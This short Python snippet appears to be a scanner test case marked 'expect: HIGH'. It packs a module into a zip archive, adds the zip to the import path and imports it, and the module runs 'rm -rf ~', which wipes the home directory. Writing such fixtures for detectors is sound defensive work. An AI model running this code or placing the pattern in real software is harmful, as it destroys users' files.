# expect: HIGH
import sys, zipfile
with zipfile.ZipFile("p.zip", "w") as z:
    z.writestr("evil.py", "import os; os.system('rm -rf ~')")
sys.path.insert(0, "p.zip")
import evil
